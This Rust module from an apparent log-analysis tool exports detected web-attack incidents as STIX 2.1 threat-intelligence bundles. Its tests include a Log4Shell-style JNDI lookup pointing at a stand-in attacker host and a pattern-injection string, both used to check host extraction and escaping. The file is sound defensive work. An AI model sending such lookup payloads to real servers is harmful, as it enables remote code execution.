//! A bundle of STIX 2.1 (OASIS), by which others learn of the actors, the hosts in payloads and the requests that worked.
//!
//! Every identifier is a UUID of version 5, made of what it names: two scans of one log give one bundle, and who takes in
//! both has nothing twice. Identifiers of observables are made as the standard says (section 2.9), so that the same
//! address has the same one everywhere. The times of objects are those of the incident's requests, and those of objects
//! that have no time are [`BEGINNING`]: no clock is asked. What tells nothing of an attacker (severity info) stays at home.

use std::collections::BTreeSet;
use std::io;
use std::net::{IpAddr, Ipv4Addr, Ipv6Addr};

use accesslog::Time;
use detect::{Confidence, Outcome, Severity};
use serde_json::{Value, json};
use uuid::{Uuid, uuid};

use crate::attack;
use crate::document::{Document, Finding, Incident, Story};
use crate::facts::{last_time, millis, pruned, span};
use crate::foreign;
use crate::json::write_line;
use crate::render::{Look, Render};
use crate::show::instant;
use crate::untrusted::{Telling, Untrusted};

/// The namespace of observables' identifiers, given by the standard.
const OBSERVABLES: Uuid = uuid!("00abedb4-aa42-466c-9c01-fed23315a9b7");

/// The time of objects that have none.
const BEGINNING: Time = Time(1_577_836_800_000_000_000);

/// The largest count that the standard takes.
const COUNT_MAX: u64 = 999_999_999;

/// How many requests of an incident become patterns.
const REQUESTS_MAX: usize = 100;

/// Signals whose evidence names a host of the attacker's.
const OF_HOSTS: [&str; 3] = ["callback-host", "stranger-url", "lookup-string"];

/// The form for sharing.
pub(crate) struct Stix;

impl Render for Stix {
    fn name(&self) -> &'static str {
        "stix"
    }

    fn extensions(&self) -> &'static [&'static str] {
        &["stix.json", "stix"]
    }

    fn about(&self) -> &'static str {
        "STIX 2.1: indicators of the actors, the hosts in payloads and the requests that worked, to be shared"
    }

    fn render(&self, document: &Document, _: Look, out: &mut dyn io::Write) -> io::Result<()> {
        let mut bundle = Bundle { objects: Vec::new(), known: BTreeSet::new(), me: identifier("identity", "keytrace") };
        bundle.identity();
        let last = last_time(document);
        for story in document.stories.iter().filter(|story| Severity::Low <= story.incident.severity) {
            bundle.story(story, last);
        }
        let all: Vec<&str> = bundle.known.iter().map(String::as_str).collect();
        let id = identifier("bundle", &all.join(" "));
        write_line(out, &json!({"type": "bundle", "id": id, "objects": bundle.objects}))
    }
}

struct Bundle {
    objects: Vec<Value>,
    known: BTreeSet<String>,
    me: String,
}

impl Bundle {
    /// Puts an object in, once.
    fn put(&mut self, id: String, object: Value) -> String {
        if self.known.insert(id.clone()) {
            let mut object = pruned(object);
            object["id"] = Value::from(id.as_str());
            object["spec_version"] = Value::from("2.1");
            self.objects.push(object);
        }
        id
    }

    fn identity(&mut self) {
        let me = self.me.clone();
        let identity = json!({
            "type": "identity",
            "created": timestamp(BEGINNING),
            "modified": timestamp(BEGINNING),
            "name": "keytrace",
            "description": format!("Text of strangers stands in {} alone.", foreign::keys("stix").join(" and ")),
            "identity_class": "system",
        });
        self.put(me, identity);
    }

    fn story(&mut self, story: &Story, last: Time) {
        let incident = &story.incident;
        let (from, to) = span(incident, last);
        let techniques: Vec<String> = incident.techniques.iter().filter_map(|id| self.technique(id)).collect();
        let mut members = techniques.clone();
        let (mut observed, mut indicators) = (Vec::new(), Vec::new());
        for (what, value) in wanted(story) {
            let Some((kind, pattern)) = pattern(what, &value) else { continue };
            if let Some(kind) = kind {
                observed.push(self.observable(kind, &value));
            }
            let id = identifier("indicator", &format!("{} {pattern}", incident.id));
            let indicator = json!({
                "type": "indicator",
                "created_by_ref": self.me,
                "created": timestamp(from),
                "modified": timestamp(to),
                "name": format!("{} of {}", what.name(), incident.id),
                "description": titled(incident).own(". ").text(&incident.summary).finish(),
                "indicator_types": [kind_of(incident)],
                "pattern": pattern,
                "pattern_type": "stix",
                "valid_from": timestamp(from),
                "confidence": confidence(incident.confidence),
                "labels": ["keytrace", incident.severity.name()],
            });
            indicators.push(self.put(id, indicator));
        }
        let seen = self.observed(incident, &observed, from, to);
        for indicator in &indicators {
            members.push(self.sighting(incident, indicator, seen.as_deref(), (from, to)));
            for technique in &techniques {
                members.push(self.indicates(indicator, technique, (from, to)));
            }
        }
        members.extend(indicators.into_iter().chain(observed).chain(seen));
        members.push(self.me.clone());
        members.sort_unstable();
        members.dedup();
        let id = identifier("grouping", &incident.id);
        let grouping = json!({
            "type": "grouping",
            "created_by_ref": self.me,
            "created": timestamp(from),
            "modified": timestamp(to),
            "name": titled(incident).finish(),
            "description": incident.summary,
            "context": "suspicious-activity",
            "object_refs": members,
            "labels": ["keytrace", incident.severity.name(), incident.confidence.name()],
        });
        self.put(id, grouping);
    }

    fn technique(&mut self, id: &str) -> Option<String> {
        let page = attack::page(id)?;
        let name = attack::technique(id).map_or(id, |known| known.name);
        let pattern = json!({
            "type": "attack-pattern",
            "created_by_ref": self.me,
            "created": timestamp(BEGINNING),
            "modified": timestamp(BEGINNING),
            "name": name,
            "external_references": [{"source_name": "mitre-attack", "external_id": id, "url": page}],
        });
        Some(self.put(identifier("attack-pattern", id), pattern))
    }

    fn observable(&mut self, kind: &str, value: &Untrusted) -> String {
        // The canonical JSON (RFC 8785) of what the identifier is made of.
        let name = json!({"value": value}).to_string();
        let id = format!("{kind}--{}", Uuid::new_v5(&OBSERVABLES, name.as_bytes()));
        self.put(id, json!({"type": kind, "value": value}))
    }

    fn observed(&mut self, incident: &Incident, observed: &[String], from: Time, to: Time) -> Option<String> {
        if observed.is_empty() {
            return None;
        }
        let id = identifier("observed-data", &incident.id);
        let object = json!({
            "type": "observed-data",
            "created_by_ref": self.me,
            "created": timestamp(from),
            "modified": timestamp(to),
            "first_observed": timestamp(from),
            "last_observed": timestamp(to),
            "number_observed": incident.findings.clamp(1, COUNT_MAX),
            "object_refs": observed,
        });
        Some(self.put(id, object))
    }

    fn sighting(&mut self, incident: &Incident, of: &str, seen: Option<&str>, (from, to): (Time, Time)) -> String {
        let object = json!({
            "type": "sighting",
            "created_by_ref": self.me,
            "created": timestamp(from),
            "modified": timestamp(to),
            "first_seen": timestamp(from),
            "last_seen": timestamp(to),
            "count": incident.findings.clamp(1, COUNT_MAX),
            "sighting_of_ref": of,
            "observed_data_refs": seen.into_iter().collect::<Vec<_>>(),
            "where_sighted_refs": [self.me],
        });
        self.put(identifier("sighting", of), object)
    }

    fn indicates(&mut self, indicator: &str, technique: &str, (from, to): (Time, Time)) -> String {
        let object = json!({
            "type": "relationship",
            "created_by_ref": self.me,
            "created": timestamp(from),
            "modified": timestamp(to),
            "relationship_type": "indicates",
            "source_ref": indicator,
            "target_ref": technique,
        });
        self.put(identifier("relationship", &format!("{indicator} {technique}")), object)
    }
}

/// What an indicator is of.
#[derive(Clone, Copy, Debug, PartialEq, Eq, PartialOrd, Ord)]
enum Of {
    /// Who acted.
    Actor,
    /// A host that a payload names.
    Host,
    /// A request that worked.
    Request,
}

impl Of {
    fn name(self) -> &'static str {
        match self {
            Of::Actor => "actor",
            Of::Host => "payload host",
            Of::Request => "request",
        }
    }
}

/// What of a story is worth an indicator, each once, in order.
fn wanted(story: &Story) -> BTreeSet<(Of, Untrusted)> {
    let actors = story.incident.actors.iter().filter_map(|actor| actor.client.clone());
    let mut out: BTreeSet<(Of, Untrusted)> = actors.map(|client| (Of::Actor, client)).collect();
    let named = |finding: &Finding| {
        let signals = finding.signals.iter().filter(|signal| OF_HOSTS.contains(&signal.name.as_str()));
        let own = finding.request.host.clone();
        signals
            .filter_map(|signal| signal.evidence.and_then(host))
            .filter(|host| Some(host) != own.as_ref())
            .collect::<Vec<_>>()
    };
    out.extend(story.findings.iter().flat_map(named).map(|host| (Of::Host, host)));
    let worked =
        story.findings.iter().filter(|one| one.outcome == Outcome::Success && Severity::Medium <= one.severity);
    // A secret that is cut would make a pattern that nothing matches.
    let targets = worked
        .filter_map(|one| one.request.target.clone())
        .filter(|target| !target.is(|target| target.contains("****")));
    out.extend(targets.take(REQUESTS_MAX).map(|target| (Of::Request, target)));
    out
}

/// The host that an evidence names: of a URL, or all of it.
fn host(evidence: &str) -> Option<String> {
    let rest = evidence.split_once("://").map_or(evidence, |(_, rest)| rest);
    let authority = rest.split(['/', '?', '#', '}', ' ']).next()?;
    let host = authority.rsplit('@').next()?;
    let host = match host.strip_prefix('[') {
        Some(literal) => literal.split(']').next()?,
        None => host.split(':').next()?,
    };
    let host = host.trim_end_matches('.').to_ascii_lowercase();
    let is_name = host.contains('.')
        && host.len() < 254
        && host.split('.').all(|label| {
            !label.is_empty() && label.bytes().all(|byte| byte.is_ascii_alphanumeric() || byte == b'-' || byte == b'_')
        });
    (is_name || host.parse::<IpAddr>().is_ok()).then_some(host)
}

/// The type of the observable, if it is one, and the pattern by which it is known again.
fn pattern(what: Of, value: &Untrusted) -> Option<(Option<&'static str>, String)> {
    let literal = value.in_pattern();
    if what == Of::Request {
        return Some((None, format!("[network-traffic:extensions.'http-request-ext'.request_value = {literal}]")));
    }
    let kind = if value.is(|text| text.parse::<Ipv4Addr>().is_ok()) {
        "ipv4-addr"
    } else if value.is(|text| text.parse::<Ipv6Addr>().is_ok()) {
        "ipv6-addr"
    } else {
        value.and_then(host).filter(|host| host == value)?;
        "domain-name"
    };
    Some((Some(kind), format!("[{kind}:value = {literal}]")))
}

/// A string in a pattern (STIX 2.1, section 9.4): quotes and backslashes are escaped, all else stands as it is.
pub(crate) fn literal(text: &str) -> String {
    format!("'{}'", text.replace('\\', "\\\\").replace('\'', "\\'"))
}

/// What names an incident, as far as that can be said of all of it.
fn titled(incident: &Incident) -> Telling {
    Telling::default().own(&incident.id).own(": ").text(&incident.title)
}

fn kind_of(incident: &Incident) -> &'static str {
    if Severity::Medium <= incident.severity { "malicious-activity" } else { "anomalous-activity" }
}

fn confidence(confidence: Confidence) -> u8 {
    match confidence {
        Confidence::Anomaly => 15,
        Confidence::Attempt => 50,
        Confidence::Probable => 75,
        Confidence::Confirmed => 95,
    }
}

/// The identifier of an object that is made of a text.
fn identifier(kind: &str, text: &str) -> String {
    let own = Uuid::new_v5(&Uuid::NAMESPACE_URL, b"keytrace");
    format!("{kind}--{}", Uuid::new_v5(&own, format!("{kind} {text}").as_bytes()))
}

/// An instant with exactly three digits behind the point, as the standard has it.
fn timestamp(time: Time) -> String {
    let whole = instant(Time(time.0.div_euclid(1_000_000_000) * 1_000_000_000));
    format!("{}.{:03}Z", whole.trim_end_matches('Z'), millis(time).rem_euclid(1_000))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn an_instant_has_three_digits() {
        assert_eq!(timestamp(BEGINNING), "2020-01-01T00:00:00.000Z");
        assert_eq!(timestamp(Time(1_577_836_800_123_999_999)), "2020-01-01T00:00:00.123Z");
        assert_eq!(timestamp(Time(-1)), "1969-12-31T23:59:59.999Z");
    }

    #[test]
    fn a_pattern_holds_no_more_than_its_value() {
        assert_eq!(literal("a' OR [x:y = 'z\\"), "'a\\' OR [x:y = \\'z\\\\'");
        assert!(pattern(Of::Actor, &"x' OR '".into()).is_none() && pattern(Of::Host, &"a b".into()).is_none());
        assert_eq!(pattern(Of::Host, &"x.example".into()).unwrap().1, "[domain-name:value = 'x.example']");
    }

    #[test]
    fn hosts_are_taken_out_of_what_names_them() {
        for (evidence, wanted) in [
            ("${jndi:ldap://evil.example:1389/a}", Some("evil.example")),
            ("http://me:pw@Evil.example/x", Some("evil.example")),
            ("x.oast.example", Some("x.oast.example")),
            ("http://[2001:db8::1]:80/", Some("2001:db8::1")),
            ("198.51.100.9:80", Some("198.51.100.9")),
            ("http://a-b_c.example/", Some("a-b_c.example")),
            ("localhost", None),
            ("http://a..b/", None),
            ("", None),
        ] {
            assert_eq!(host(evidence).as_deref(), wanted, "{evidence}");
        }
        let long = |length: usize| format!("{}b", "a.".repeat(length / 2));
        assert!(host(&long(253)).is_some() && host(&long(255)).is_none() && host(&format!("a{}", long(253))).is_none());
    }

    #[test]
    fn an_address_has_the_identifier_that_it_has_everywhere() {
        let mut bundle = Bundle { objects: Vec::new(), known: BTreeSet::new(), me: String::new() };
        let id = bundle.observable("ipv4-addr", &"198.51.100.3".into());
        // The example of the standard (section 6.5), and what others make of it.
        assert_eq!(id, "ipv4-addr--28bb3599-77cd-5a82-a950-b5bc3caf07c4");
    }
}
